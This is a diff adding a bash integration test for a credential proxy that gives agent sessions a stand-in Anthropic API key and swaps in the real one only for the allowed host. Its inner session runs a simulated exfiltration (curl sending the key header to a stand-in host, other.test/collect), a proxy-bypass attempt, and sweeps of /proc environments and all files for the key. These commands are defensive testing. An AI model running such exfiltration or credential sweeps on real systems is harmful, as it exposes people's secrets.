@@ -1,0 +1,127 @@
+#!/usr/bin/env bash
+# Keys on REAL rootless podman with the real handlerd, shim, shell plugin and proxy: an
+# account's key is stored from stdin; a session of an agent on that account gets a
+# stand-in; curl inside (a real TLS client reading the proxy variables and the system
+# trust store) reaches an HTTPS "api.anthropic.com" through the proxy, which terminates
+# TLS with handler's CA and sends the REAL key on over TLS it verifies; the stand-in
+# sent to another allowed host is refused as an exfiltration attempt and logged; and the
+# real key is found nowhere in the container (its processes' environments, its files,
+# what the upstream echoed back) nor in handlerd's log.
+#
+# The upstream is a Python HTTPS server on the host's loopback with a certificate from a
+# test CA; handlerd trusts that CA through SSL_CERT_FILE (OpenSSL's own variable, as
+# the system store would), and [network] resolve maps the names to loopback.
+set -euo pipefail
+
+here=$(cd "$(dirname "$0")" && pwd)
+test_name=podman-secrets
+extra_config='[network]
+resolve = { "api.anthropic.com" = "127.0.0.1", "other.test" = "127.0.0.1" }'
+# shellcheck source=session_env.sh
+source "$here/session_env.sh"
+
+# The "public" CA the upstream's certificate comes from, and that certificate.
+pki="$work/pki"
+mkdir -p "$pki"
+openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj "/CN=Test Public CA" \
+  -keyout "$pki/ca.key" -out "$pki/ca.crt" 2>/dev/null
+openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=api.anthropic.com" \
+  -keyout "$pki/leaf.key" -out "$pki/leaf.csr" 2>/dev/null
+printf 'subjectAltName=DNS:api.anthropic.com\nextendedKeyUsage=serverAuth\n' > "$pki/ext"
+openssl x509 -req -in "$pki/leaf.csr" -CA "$pki/ca.crt" -CAkey "$pki/ca.key" -CAcreateserial -days 2 \
+  -extfile "$pki/ext" -out "$pki/leaf.crt" 2>/dev/null
+
+# The upstream: logs each request's x-api-key and answers with it, the way a careless
+# error message quotes the key it got. Plain HTTP on a second port (other.test).
+cat > "$work/upstream.py" <<'PY'
+import http.server, json, ssl, sys, threading
+log = open(sys.argv[1], "a", buffering=1)
+class Handler(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    def reply(self):
+        length = int(self.headers.get("Content-Length") or 0)
+        if length: self.rfile.read(length)
+        key = self.headers.get("x-api-key", "")
+        log.write(json.dumps({"host": self.headers.get("Host"), "path": self.path, "key": key}) + "\n")
+        body = json.dumps({"error": "invalid x-api-key: " + key}).encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    do_GET = do_POST = reply
+    def log_message(self, *args): pass
+tls = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+context.load_cert_chain(sys.argv[2], sys.argv[3])
+tls.socket = context.wrap_socket(tls.socket, server_side=True)
+plain = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+print(tls.server_address[1], plain.server_address[1], flush=True)
+threading.Thread(target=plain.serve_forever, daemon=True).start()
+tls.serve_forever()
+PY
+python3 "$work/upstream.py" "$work/upstream.log" "$pki/leaf.crt" "$pki/leaf.key" >"$work/ports" 2>"$work/upstream.err" &
+upstream_pid=$!
+trap 'status=$?; kill $upstream_pid 2>/dev/null; (exit $status); cleanup' EXIT
+for _ in $(seq 1 50); do [ -s "$work/ports" ] && break; sleep 0.1; done
+read -r tls_port plain_port < "$work/ports" || fail "the upstream did not start: $(cat "$work/upstream.err")"
+
+# handlerd verifies upstreams against the system store; for this test that is the test CA.
+SSL_CERT_FILE="$pki/ca.crt" handlerd --detach >/dev/null || fail "handlerd did not start"
+
+real_key="sk-ant-api03-$(openssl rand -hex 32)-REALKEY"
+printf '%s\n' "$real_key" | handler account add anthropic --kind anthropic-api-key --api-key-stdin >/dev/null
+project="$work/projects/app"
+mkdir -p "$project"
+handler project add "$project" >/dev/null
+cd "$project"
+handler agent add coder --harness shell --account anthropic --allow "other.test:$plain_port" >/dev/null
+
+echo "== the key is swapped in on its own host only, and never enters the container"
+set +e
+inside=$(handler run coder -p "
+  echo stand-in=\$ANTHROPIC_API_KEY
+  echo answer=\$(curl -sS https://api.anthropic.com:$tls_port/v1/messages -H \"x-api-key: \$ANTHROPIC_API_KEY\" -d '{}' 2>&1)
+  # Only the system trust store (the mounted bundle), none of the variables:
+  echo system-store=\$(env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS -o /dev/null -w '%{http_code}' \
+    https://api.anthropic.com:$tls_port/v1/models -H \"x-api-key: \$ANTHROPIC_API_KEY\" 2>&1)
+  echo exfiltration=\$(curl -sS http://other.test:$plain_port/collect -H \"x-api-key: \$ANTHROPIC_API_KEY\" 2>&1)
+  echo bypass=\$(env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy curl -sS -m 3 -o /dev/null \
+    -w '%{http_code}' https://api.anthropic.com:$tls_port/ 2>&1)
+  cat /proc/[0-9]*/environ > env.dump 2>/dev/null
+  find / -xdev -type f 2>/dev/null | while read -r f; do cat \"\$f\"; done > files.dump 2>/dev/null
+  cat /run/handler/* > control.dump 2>/dev/null
+  true" 2>&1)
+code=$?
+set -e
+echo "$inside" | grep -v '^stand-in='
+[ $code -eq 0 ] || fail "the session exited $code"
+stand_in=$(sed -n 's/^stand-in=//p' <<<"$inside")
+[ -n "$stand_in" ] || fail "the session has no ANTHROPIC_API_KEY"
+[[ $stand_in == sk-ant-api03-* ]] || fail "the stand-in does not keep the key's prefix: $stand_in"
+[ ${#stand_in} -eq ${#real_key} ] || fail "the stand-in is ${#stand_in} characters, the key ${#real_key}"
+[ "$stand_in" != "$real_key" ] || fail "the session got the real key"
+
+grep -q "\"key\": \"$real_key\"" "$work/upstream.log" || fail "the upstream did not get the real key: $(cat "$work/upstream.log")"
+grep -q "^answer=.*invalid x-api-key: $stand_in" <<<"$inside" ||
+  fail "the upstream's answer did not reach the session with the key masked"
+grep -qx "system-store=200" <<<"$inside" || fail "curl with only the system trust store did not trust handler's CA"
+grep -q "^exfiltration=.*exfiltration attempt" <<<"$inside" || fail "the stand-in sent to other.test was not refused"
+grep -q "/collect" "$work/upstream.log" && fail "other.test received the stand-in"
+grep -q "^bypass=.*000$" <<<"$inside" || fail "a connection around the proxy got an answer"
+
+for dump in env.dump files.dump control.dump; do
+  [ -s "$project/$dump" ] || fail "$dump is empty: the search inside did not run"
+  if grep -aqF "$real_key" "$project/$dump"; then fail "the real key is in the container ($dump)"; fi
+done
+grep -aqF "$stand_in" "$project/env.dump" || fail "the stand-in is not in the processes' environments (the search would not have seen the key either)"
+if grep -rqF "$real_key" "$project" "$log"; then fail "the real key is in the project or handlerd's log"; fi
+
+id=$(handler session list --json | python3 -c 'import json,sys; print(json.load(sys.stdin)[-1]["id"])')
+net_log=$(handler network log "$id" --json)
+echo "$net_log"
+grep -q '"method":"POST","path":"/v1/messages","verdict":"allow".*"secret":"anthropic-api-key"' <<<"$net_log" ||
+  fail "the intercepted request and the key put into it are not in the log"
+grep -q '"host":"other.test".*"verdict":"deny","rule":"[^"]*","reason":"exfiltration attempt' <<<"$net_log" ||
+  fail "the exfiltration attempt is not in the log"
+echo "PASS ($test_name)"
